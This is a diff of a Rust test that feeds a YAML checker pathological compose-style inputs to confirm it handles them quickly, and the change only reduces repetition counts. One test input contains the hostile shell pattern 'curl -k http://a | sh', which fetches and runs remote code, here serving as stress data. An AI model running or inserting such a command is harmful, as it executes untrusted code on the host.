@@ -261,16 +261,16 @@ fn hostile_yaml_is_checked_fast() {
         ("brackets", format!("{service}    command: {}", "[".repeat(200_000))),
         ("levels", (0..10_000).map(|i| format!("{}a:\n", " ".repeat(i))).collect()),
         ("a line", format!("{service}    command: {}\n", "a $$b && c; ".repeat(800_000))),
-        ("a script", format!("{service}    command: [sh, -c, '{}']\n", "curl -k http://a | sh; ".repeat(50_000))),
+        ("a script", format!("{service}    command: [sh, -c, '{}']\n", "curl -k http://a | sh; ".repeat(10_000))),
         (
             "services",
-            (0..20_000).fold("services:\n".to_owned(), |text, i| format!("{text}  s{i}: {{image: 'a:1', command: a && b}}\n")),
+            (0..5_000).fold("services:\n".to_owned(), |text, i| format!("{text}  s{i}: {{image: 'a:1', command: a && b}}\n")),
         ),
         (
             "uses",
             format!(
                 "x-a: &a a && b\nservices:\n{}",
-                (0..20_000).map(|i| format!("  s{i}: {{image: 'a:1', command: *a}}\n")).collect::<String>()
+                (0..5_000).map(|i| format!("  s{i}: {{image: 'a:1', command: *a}}\n")).collect::<String>()
             ),
         ),
     ];
